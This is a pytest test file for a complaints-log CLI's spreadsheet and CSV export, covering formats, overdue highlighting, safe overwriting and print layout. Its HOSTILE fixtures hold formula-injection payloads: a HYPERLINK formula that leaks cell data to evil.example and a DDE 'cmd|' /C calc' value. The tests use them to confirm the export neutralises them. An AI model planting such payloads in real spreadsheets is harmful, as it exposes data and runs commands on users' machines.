"""``complaints export``: the Spruce Complaints Log as a workbook or CSV, safely written."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import tempfile
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from complaints_cli.domain.columns import COLUMNS, HEADERS
from complaints_cli.files.exporter import MAX_CELL_TEXT, XlsxWriter, csv_text, xml_text
from complaints_cli.files.headers import EXTRA_COLUMNS
from complaints_cli.files.xlsx_writer import wrapped_lines
from complaints_cli.store.db import RawDatabase
from complaints_cli.store.reads import list_cases
from tests.conftest import LOG_ARGS, new_log_url
from tests.paths import SAMPLE
from tests.records import record

#: The tool's own columns, in the registry's order (test_headers pins the registry's names).
TOOL_HEADERS = [*(e.header for e in EXTRA_COLUMNS if not e.sensitive), "Created", "Updated"]
SAMPLE_TODAY = "2025-11-14"  # the day the sample log was last saved

#: Text a spreadsheet would run, or show as something else, if it were not kept as text.
HOSTILE = {
    "complainant": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "address": "+44 20 7946 0000",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "handler": "#N/A",
}


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def load(path: Path) -> Any:
    from openpyxl import load_workbook

    return load_workbook(path).active


def rows_of(path: Path) -> list[list[Any]]:
    return [[c.value for c in row] for row in load(path).iter_rows()]


def all_cases(url: str) -> dict[str, dict[str, Any]]:
    with RawDatabase(url) as db:
        return {c.reference: record(c) for c in list_cases(db)}


#: What the log's workbook holds: the 24 columns' fields, the tool's own columns, the kept ones.
#: (The tool's bookkeeping - ids, timestamps, folder, stored deadlines - is its own.)
EXPORTED_FIELDS = (
    *(f for c in COLUMNS for f in c.fields if f != "compensation_amount"),
    "compensation_amount",
    # Actions and signatories live in their own tables (tests/cli/test_roundtrip_lifecycle.py
    # and tests/cli/test_signatories_roundtrip.py check them).
    *(
        f
        for e in EXTRA_COLUMNS
        for f in e.fields
        if f not in ("actions", "related_to", "duplicate_of", "signatories")
    ),
    "extra",
)


def comparable(case: dict[str, Any]) -> dict[str, Any]:
    """A case's values as the workbook carries them."""
    return {k: case[k] for k in EXPORTED_FIELDS}


@pytest.fixture
def sample(cli, monkeypatch) -> None:
    monkeypatch.setenv("COMPLAINTS_TODAY", SAMPLE_TODAY)
    result = cli("import", str(SAMPLE))
    assert result.exit_code == 0, result.output


# --- the columns -------------------------------------------------------------------------------


def test_headers_are_the_procedures_then_the_tools_then_the_kept_ones(cli, tmp_path, sample):
    out = tmp_path / "log.xlsx"
    result = cli("export", str(out))
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == (
        f"Exported 40 case(s) to {out} (xlsx, 75 columns, 3 overdue highlighted)"
    )
    rows = rows_of(out)
    assert rows[0] == [*HEADERS, *TOOL_HEADERS, "Notes"]
    assert len(rows) == 41


def test_values_are_real_dates_pounds_and_the_logs_own_text(cli, tmp_path, sample):
    out = tmp_path / "log.xlsx"
    assert cli("export", str(out)).exit_code == 0
    ws = load(out)
    headers = [c.value for c in ws[1]]
    by_ref = {row[0].value: row for row in ws.iter_rows(min_row=2)}

    def cell(ref: str, header: str) -> Any:
        return by_ref[ref][headers.index(header)]

    received = cell("SPRUCE001", "Complaint received")
    assert received.is_date and received.value.date() == date(2025, 1, 8)
    assert received.number_format == "dd\\/mm\\/yyyy"
    assert cell("SPRUCE012", "Met HOS acknowledgment timeframe").value == (
        "Yes - sent late, handler on leave"
    )
    money = cell("SPRUCE013", "Compensation paid & reasons under framework")
    assert money.value == "£1,250.00 (time and trouble, and a damaged carpet)"
    amount = cell("SPRUCE006", "Compensation paid & reasons under framework")  # "None" paid
    assert (amount.data_type, amount.value, amount.number_format) == ("n", 0, '"£"#,##0.00')
    assert cell("SPRUCE003", "Review type").value in ("Manager Review", "Compensation Review")
    assert cell("SPRUCE033", "Notes").value == "Outstanding: replace bathroom extractor fan"
    assert cell("SPRUCE001", "Created").is_date
    # Frozen header row, filters over the whole table, widths from the content (capped).
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:BW41"
    assert ws.column_dimensions["I"].width == 50  # long summaries: wrapped at the cap


def test_overdue_open_cases_are_highlighted(cli, tmp_path, sample):
    out = tmp_path / "log.xlsx"
    assert cli("export", str(out)).exit_code == 0
    ws = load(out)
    filled = {
        row[0].value for row in ws.iter_rows(min_row=2) if row[0].fill.fgColor.rgb == "FFFFC7CE"
    }
    # SPRUCE033 has had no response for weeks; SPRUCE038 was never acknowledged.
    assert {"SPRUCE033", "SPRUCE038"} <= filled
    assert "SPRUCE001" not in filled  # closed
    assert "SPRUCE040" not in filled  # received yesterday
    # SPRUCE019 (with the Ombudsman) has a Stage 2 response, so its Stage 2 acknowledgement,
    # which the log has no column for, is implied rather than overdue.
    assert filled == {"SPRUCE031", "SPRUCE033", "SPRUCE038"}


def test_filters_choose_the_cases(cli, tmp_path, sample):
    out = tmp_path / "open.xlsx"
    result = cli("export", str(out), "--status", "open", "--stage", "Stage 1")
    assert result.exit_code == 0, result.output
    refs = [r[0] for r in rows_of(out)[1:]]
    assert refs == ["SPRUCE014", "SPRUCE017", "SPRUCE033", "SPRUCE034", "SPRUCE035",
                    "SPRUCE036", "SPRUCE037", "SPRUCE038", "SPRUCE039", "SPRUCE040"]  # fmt: skip


# --- nothing a user typed becomes a formula ----------------------------------------------------


def _log_hostile(cli: Any) -> None:
    result = cli(
        "log",
        "--no-input",
        "--complainant",
        HOSTILE["complainant"],
        "--address",
        HOSTILE["address"],
        "--handler",
        HOSTILE["handler"],
        "--summary",
        HOSTILE["summary"],
        "--received",
        "03/02/2025",
        "--channel",
        "email",
    )
    assert result.exit_code == 0, result.output


def test_user_text_never_becomes_a_formula_in_the_workbook(cli, tmp_path):
    _log_hostile(cli)
    out = tmp_path / "log.xlsx"
    assert cli("export", str(out)).exit_code == 0
    xml = sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="str"' not in xml and 't="e"' not in xml
    ws = load(out)
    row = {h: c for h, c in zip([c.value for c in ws[1]], ws[2], strict=True)}
    for header, text in (
        ("Complainant", HOSTILE["complainant"]),
        ("Address", HOSTILE["address"]),
        ("Summary of complaint", HOSTILE["summary"]),
        ("Handler", HOSTILE["handler"]),
    ):
        assert row[header].data_type == "s", header
        assert row[header].value == text
    assert f'<is><t xml:space="preserve">{xml_text(HOSTILE["address"])}</t></is>' in xml


def test_csv_is_utf8_with_bom_and_defuses_formulas(cli, tmp_path):
    _log_hostile(cli)
    out = tmp_path / "log.csv"
    result = cli("export", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:24] == list(HEADERS)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Complainant"] == "'" + HOSTILE["complainant"]
    assert row["Address"] == "'" + HOSTILE["address"]
    assert row["Summary of complaint"] == "'" + HOSTILE["summary"]
    assert row["Handler"] == "'#N/A"  # Excel would read it as the error value
    assert row["Complaint received"] == "03/02/2025"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        ("#DIV/0!", "'#DIV/0!"),
        ("#1 priority", "#1 priority"),
        (date(2025, 2, 3), "03/02/2025"),
        (-5, "-5"),
    ],
)
def test_csv_text(value, expected):
    assert csv_text(value) == expected


def test_format_must_match_the_file_name(cli, tmp_path):
    result = cli("export", str(tmp_path / "log.csv"), "--format", "xlsx")
    assert result.exit_code == 1
    assert result.stderr == (
        "complaints: error: 'log.csv' does not end in .xlsx: name the file log.xlsx\n"
    )


@pytest.mark.parametrize("name", ["log.xslx", "log.xlxs", "log.txt", "log"])
def test_a_file_name_ending_in_neither_xlsx_nor_csv_is_refused(cli, tmp_path, name):
    """A typo in the extension (fresh-user trial 9) wrote a workbook Excel will not open
    from Explorer, and said "Exported": refused, naming the fix; --format writes it anyway."""
    result = cli("export", str(tmp_path / name))
    assert result.exit_code == 1
    stem = name.split(".")[0]
    assert result.stderr == (
        f"complaints: error: {name!r} does not end in .xlsx or .csv: name the file "
        f"{stem}.xlsx, or give --format xlsx to write a workbook under this name\n"
    )
    assert not (tmp_path / name).exists()
    chosen = cli("export", str(tmp_path / name), "--format", "xlsx")
    assert chosen.exit_code == 0, chosen.output
    assert (tmp_path / name).read_bytes()[:2] == b"PK"


# --- control characters, over-long text ------------------------------------------------------


def test_control_characters_and_escapes_survive_a_round_trip(tmp_path):
    from complaints_cli.files.exporter import ExportColumn
    from complaints_cli.files.spreadsheet import Workbook

    texts = ["bell\x07 and nul\x00 here", "a literal _x0041_ stays", "tab\tand\nline", "ok"]
    out = tmp_path / "t.xlsx"
    with out.open("wb") as fh:
        writer = XlsxWriter(fh, [ExportColumn("Text", "text", 10, lambda c: None)])
        for text in texts:
            writer.add_row([text])
        writer.close()
    assert "_x0007_" in sheet_xml(out) and "_x005F_x0041_" in sheet_xml(out)
    with Workbook(out) as wb:
        assert [r[0] for r in wb.sheet(wb.sheet_names[0]).rows[1:]] == texts


def test_text_longer_than_a_cell_is_cut_and_said(cli, tmp_path):
    import sqlite3

    assert cli("log", "--no-input", *LOG_ARGS).exit_code == 0
    with sqlite3.connect(tmp_path / "log.db") as conn:  # longer than any command accepts
        conn.execute("UPDATE complaint SET complaint_summary = ?", ("x" * (MAX_CELL_TEXT + 10),))
    out = tmp_path / "log.xlsx"
    result = cli("export", str(out))
    assert result.exit_code == 0, result.output
    assert (
        "warning: 1 cell(s) longer than Excel's 32,767 characters were cut in the workbook "
        "(the log keeps the whole text): SPRUCE001 'Summary of complaint'" in result.stderr
    )
    value = rows_of(out)[1][HEADERS.index("Summary of complaint")]
    assert len(value) == MAX_CELL_TEXT and value.endswith("[...cut: the whole text is in the log]")
    csv_out = tmp_path / "log.csv"
    assert cli("export", str(csv_out)).exit_code == 0
    assert ("x" * (MAX_CELL_TEXT + 10)) in csv_out.read_text(encoding="utf-8-sig")


# --- writing safely ---------------------------------------------------------------------------


def test_an_existing_file_needs_force(cli, tmp_path):
    assert cli("log", "--no-input", *LOG_ARGS).exit_code == 0
    out = tmp_path / "log.xlsx"
    out.write_bytes(b"previous")
    result = cli("export", str(out))
    assert result.exit_code == 1
    assert (
        result.stderr
        == f"complaints: error: {str(out)!r} already exists: use --force to replace it\n"
    )
    assert out.read_bytes() == b"previous"
    assert cli("export", str(out), "--force").exit_code == 0
    assert rows_of(out)[1][0] == "SPRUCE001"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".~")] == []


def _saved_beside(result: Any, out: Path, kept: bytes) -> Path:
    """The export that could not replace ``out``: ``out`` as it was, the log beside it."""
    assert result.exit_code == 0, result.output
    other = out.with_name("log (2).xlsx")
    assert out.read_bytes() == kept
    assert rows_of(other)[1][0] == "SPRUCE001"
    return other


@pytest.mark.parametrize("open_by", ["rename refused", "~$log.xlsx", ".~lock.log.xlsx#"])
def test_a_locked_target_is_left_intact_and_the_export_saved_beside_it(
    cli, tmp_path, monkeypatch, open_by
):
    # Windows refuses the rename over a workbook open in Excel; on a share, from another
    # computer, the rename succeeds, and Excel's owner file (LibreOffice's lock file) beside
    # the workbook is what says it is open.
    assert cli("log", "--no-input", *LOG_ARGS).exit_code == 0
    out = tmp_path / "log.xlsx"
    out.write_bytes(b"open in Excel")
    real_replace = os.replace

    def locked(src: Any, dst: Any) -> None:
        if Path(dst) == out:
            raise PermissionError(13, "The process cannot access the file")
        real_replace(src, dst)

    if open_by == "rename refused":
        monkeypatch.setattr(os, "replace", locked)
    else:
        (tmp_path / open_by).write_bytes(b"\x03Sam" + b" " * 50)
    result = cli("export", str(out), "--force")
    other = _saved_beside(result, out, b"open in Excel")
    assert (
        f"warning: {out} is open in another program, so it was left unchanged; "
        f"the export was saved as {other} instead" in result.stderr
    )
    assert str(other) in result.stdout
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".xlsx")) == sorted(
        {"log (2).xlsx", "log.xlsx", open_by} - {"rename refused", ".~lock.log.xlsx#"}
    )
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_a_read_only_target_is_named_read_only_not_open_elsewhere(cli, tmp_path):
    """Windows refuses to replace a read-only file as it refuses one Excel has open: the
    warning says which (trial 10b: it blamed another program). Here the read-only file is
    Linux's nearest kind, an immutable one (``chattr +i``, root only): the rename over it is
    refused and ``os.access`` says it cannot be written, as on Windows."""
    assert cli("log", "--no-input", *LOG_ARGS).exit_code == 0
    out = tmp_path / "log.xlsx"
    out.write_bytes(b"kept")
    if (
        shutil.which("chattr") is None
        or subprocess.run(["chattr", "+i", str(out)], capture_output=True).returncode
    ):
        pytest.skip("no immutable files here (chattr needs root and a file system with flags)")
    try:
        result = cli("export", str(out), "--force")
    finally:
        subprocess.run(["chattr", "-i", str(out)], check=True)
    other = _saved_beside(result, out, b"kept")
    assert (
        f"warning: {out} is read-only, so it was left unchanged; the export was saved as "
        f"{other} instead (clear the file's read-only attribute to replace it)"
    ) in result.stderr


def test_a_failed_write_leaves_the_previous_file_and_no_temporary(cli, tmp_path, monkeypatch):
    assert cli("log", "--no-input", *LOG_ARGS).exit_code == 0
    out = tmp_path / "log.xlsx"
    out.write_bytes(b"last month's log")
    real = XlsxWriter.add_row
    calls = {"n": 0}

    def disk_full(self: Any, *args: Any, **kwargs: Any) -> None:
        calls["n"] += 1
        if calls["n"] >= 1:  # the first case fails (the header row is written on close)
            raise OSError(28, "No space left on device")
        real(self, *args, **kwargs)

    monkeypatch.setattr(XlsxWriter, "add_row", disk_full)
    result = cli("export", str(out), "--force")
    assert result.exit_code == 1
    assert result.stderr == (
        f"complaints: error: cannot write {str(out)!r}: No space left on device; "
        "the existing file is unchanged\n"
    )
    assert out.read_bytes() == b"last month's log"
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file() and "log" in p.name) == [
        "log.db",
        "log.xlsx",
    ]


def test_a_damaged_temporary_file_is_caught_by_the_check(cli, tmp_path, monkeypatch):
    assert cli("log", "--no-input", *LOG_ARGS).exit_code == 0
    out = tmp_path / "log.xlsx"
    out.write_bytes(b"previous")
    from complaints_cli.files import exporter

    def corrupt_check(path: Path) -> None:
        data = bytearray(path.read_bytes())
        data[200:260] = b"\0" * 60  # flip bytes inside the first part
        path.write_bytes(bytes(data))
        real_check(path)

    real_check = exporter.check_xlsx
    monkeypatch.setattr(exporter, "check_xlsx", corrupt_check)
    result = cli("export", str(out), "--force")
    assert result.exit_code == 1
    assert "the written workbook failed its check" in result.stderr
    assert out.read_bytes() == b"previous"


# --- round trip -------------------------------------------------------------------------------


def _second_url(request: pytest.FixtureRequest, first: str, tmp_path: Path) -> str:
    backend = "sqlite" if first.startswith("sqlite") else "postgresql"
    return new_log_url(request, tmp_path / "second.db", backend)


def test_round_trip_reproduces_every_value(cli, tmp_path, db_url, request, monkeypatch):
    """Import the sample, export it, import the export into an empty log: every value of
    every case comes back, the kept unknown column included (SQLite and PostgreSQL)."""
    monkeypatch.setenv("COMPLAINTS_TODAY", SAMPLE_TODAY)
    assert cli("import", str(SAMPLE)).exit_code == 0
    _log_hostile(cli)  # and a case with hostile text
    out = tmp_path / "export.xlsx"
    assert cli("export", str(out)).exit_code == 0
    second = _second_url(request, db_url, tmp_path)
    result = cli("--db", second, "import", str(out))
    assert result.exit_code == 0, result.output
    assert "41 added" in result.stdout
    first_cases, second_cases = all_cases(db_url), all_cases(second)
    assert list(first_cases) == list(second_cases)
    for ref, case in first_cases.items():
        assert comparable(second_cases[ref]) == comparable(case), ref
    assert second_cases["SPRUCE033"]["extra"] == {
        "Notes": "Outstanding: replace bathroom extractor fan"
    }
    # ... and the export of the copy is the same workbook, cell for cell.
    again = tmp_path / "again.xlsx"
    assert cli("--db", second, "export", str(again)).exit_code == 0
    strip = [h for h in (*HEADERS, *TOOL_HEADERS) if h not in ("Created", "Updated")]
    first_rows, second_rows = rows_of(out), rows_of(again)
    keep = [i for i, h in enumerate(first_rows[0]) if h in strip or h == "Notes"]
    assert [[r[i] for i in keep] for r in first_rows] == [[r[i] for i in keep] for r in second_rows]


def test_csv_round_trip_through_excel_text(cli, tmp_path, sample):
    out = tmp_path / "log.csv"
    assert cli("export", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 41
    row = dict(zip(rows[0], rows[13], strict=True))
    assert row["Complaints reference"] == "SPRUCE013"
    assert row["Compensation paid & reasons under framework"] == (
        "£1,250.00 (time and trouble, and a damaged carpet)"
    )


# --- LibreOffice reads the export ----------------------------------------------------------------


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc",
)
def test_libreoffice_opens_the_export(cli, tmp_path, sample):
    out = tmp_path / "log.xlsx"
    assert cli("export", str(out)).exit_code == 0
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{profile}",
                "--headless",
                "--convert-to",
                "csv:Text - txt - csv (StarCalc):44,34,76",
                "--outdir",
                str(tmp_path / "lo"),
                str(out),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
    text = (tmp_path / "lo" / "log.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [*HEADERS, *TOOL_HEADERS, "Notes"]
    assert len(rows) == 41
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Complaints reference"] == "SPRUCE001"
    assert first["Complaint received"] == "08/01/2025"  # a real date, shown dd/mm/yyyy
    row13 = dict(zip(rows[0], rows[13], strict=True))
    assert row13["Compensation paid & reasons under framework"] == (
        "£1,250.00 (time and trouble, and a damaged carpet)"
    )
    row6 = dict(zip(rows[0], rows[6], strict=True))
    assert row6["Compensation paid & reasons under framework"] == "£0.00"  # a number, in pounds
    assert "Err:" not in text and "#NAME" not in text


# --- how the workbook opens and prints ---------------------------------------------------------


def _log_two(cli: Any) -> None:
    """Two cases, the first with a summary of four lines."""
    base = ["--channel", "email", "--handler", "Sam Patel", "--no-input"]
    first = cli(
        "log", *base, "--complainant", "Ann Lee", "--address", "1 Essex Brewery",
        "--received", "03/02/2025", "--summary", "alpha line\nbravo line\ncharlie line\ndelta line",
    )  # fmt: skip
    assert first.exit_code == 0, first.output
    second = cli(
        "log", *base, "--complainant", "Bo Diaz", "--address", "2 Mill Road",
        "--received", "04/02/2025", "--summary", "echo",
    )  # fmt: skip
    assert second.exit_code == 0, second.output


def test_wrapped_text_row_heights_widths_and_print_set_up(cli, tmp_path, sample):
    out = tmp_path / "log.xlsx"
    assert cli("export", str(out)).exit_code == 0
    ws = load(out)
    headers = [c.value for c in ws[1]]
    letter = {h: ws.cell(row=1, column=i + 1).column_letter for i, h in enumerate(headers)}
    # Widths from the content: Stage holds "Ombudsman", Status "Closed", dates dd/mm/yyyy.
    assert ws.column_dimensions[letter["Stage"]].width >= len("Ombudsman") + 2
    assert ws.column_dimensions[letter["Complaint received"]].width >= len("dd/mm/yyyy") + 1
    assert ws.column_dimensions[letter["Summary of complaint"]].width == 50  # capped: wraps
    # Every header fully visible: no header word wider than its column, the header row tall
    # enough for the longest header wrapped at word boundaries.
    for header in headers:
        width = ws.column_dimensions[letter[header]].width
        assert max(len(word) for word in header.split()) <= width, header
    assert ws.row_dimensions[1].height >= 15 * 2
    assert ws["A1"].alignment.wrap_text
    # Text cells wrap and sit at the top; a long summary's row is as tall as its lines.
    summary = ws[f"{letter['Summary of complaint']}2"]
    assert summary.alignment.wrap_text and summary.alignment.vertical == "top"
    tall = 0
    for r in range(2, ws.max_row + 1):
        need = max(
            wrapped_lines(str(cell.value), ws.column_dimensions[cell.column_letter].width)
            for cell in ws[r]
            if isinstance(cell.value, str)
        )
        if need > 1:
            tall += 1
            assert ws.row_dimensions[r].height == 15 * need, r
        else:
            assert ws.row_dimensions[r].height is None, r
    assert tall >= 5  # the sample's longer summaries, responses and learning
    # Print set-up: landscape A4, one page wide, header row on every page, gridlines.
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.paperSize == 9  # A4
    # As few pages wide as keep the text at least 60% of its size (every column on one
    # page printed it at 0.9 pt), the reference column repeated on each.
    from complaints_cli.files.xlsx_writer import pages_wide

    widths = [ws.column_dimensions[ws.cell(row=1, column=i).column_letter].width
              for i in range(1, len(headers) + 1)]  # fmt: skip
    assert ws.page_setup.fitToWidth == pages_wide(widths) > 1
    assert ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_options.gridLines
    assert ws.print_title_rows == "$1:$1"
    assert ws.print_title_cols == "$A:$A"
    assert "Page &P of &N" in ws.oddFooter.right.text


@pytest.mark.skipif(
    shutil.which("soffice") is None or shutil.which("pdftotext") is None,
    reason="LibreOffice (soffice) or pdftotext is not installed: apt-get install "
    "libreoffice-calc poppler-utils",
)
def test_libreoffice_prints_the_export_landscape_without_overprinting(cli, tmp_path):
    import re

    _log_two(cli)
    out = tmp_path / "log.xlsx"
    assert cli("export", str(out)).exit_code == 0
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{profile}", "--headless",
             "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"), str(out)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
    pdf = tmp_path / "pdf" / "log.pdf"
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True).stdout
    width, height = map(float, re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info).groups())
    assert (round(width), round(height)) == (842, 595)  # A4, landscape
    pages = int(re.search(r"Pages:\s+(\d+)\n", info).group(1))
    assert 1 < pages <= 6  # a few pages wide, not one unreadable strip
    boxes = subprocess.run(
        ["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True
    ).stdout
    words: dict[str, tuple[float, float]] = {}
    for y0, y1, word in re.findall(
        r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">([^<]+)<', boxes
    ):
        words.setdefault(word, (float(y0), float(y1)))
    first, second = words["SPRUCE001"], words["SPRUCE002"]
    # Readable: the reference prints at least 6 points high (0.9 pt before).
    assert first[1] - first[0] >= 6, first
    # The four lines of the first case's summary are all printed, inside its row: not over
    # the header row above, not over the next case below.
    for word in ("alpha", "bravo", "charlie", "delta"):
        top, bottom = words[word]
        assert first[0] - 0.5 <= top and bottom <= second[0] + 0.5, word
    assert words["alpha"][0] < words["bravo"][0] < words["charlie"][0] < words["delta"][0]
    # The header's two lines print above the first case.
    assert words["Complaints"][1] <= first[0] and words["reference"][1] <= first[0]
    assert "Page" in words and "of" in words  # the footer
